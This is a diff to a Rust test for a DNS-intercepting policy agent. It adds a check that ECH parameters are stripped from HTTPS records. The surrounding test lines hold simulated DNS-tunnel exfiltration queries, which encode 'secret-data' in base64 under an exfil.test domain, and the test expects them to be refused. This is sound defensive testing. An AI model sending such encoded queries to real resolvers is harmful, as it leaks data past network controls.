@@ -216,6 +216,7 @@ fn dns_goes_to_the_agent_whatever_the_server_and_answers_only_allowed_names() {
             &format!("dns exfil {a6} c2VjcmV0LWRhdGE.exfil.test TXT"),
             &format!("dnstcp exfil-tcp {a6} c2VjcmV0LWRhdGE.exfil.test TXT"),
             &format!("dns txt {a6} txt.allowed.test TXT"),
+            &format!("dns https {a6} allowed.test HTTPS"),
         ],
     );
     assert_outcome(&run, "rogue", &format!("NOERROR {a3}"));
@@ -229,6 +230,9 @@ fn dns_goes_to_the_agent_whatever_the_server_and_answers_only_allowed_names() {
     assert_outcome(&run, "exfil-tcp", "REFUSED");
     // TXT of an allowed name is just DNS: no data leaves that the policy did not allow.
     assert_outcome(&run, "txt", "REFUSED");
+    // The upstream's HTTPS record carries alpn (key 1) and ech (key 5): ech is removed.
+    assert_outcome(&run, "https", "NOERROR https:key=1");
+    assert!(!run.outcome("https").contains("key=5"), "{run:#?}");
     assert!(
         !w.saw("dns "),
         "a DNS packet reached the rogue resolver: {:?}",
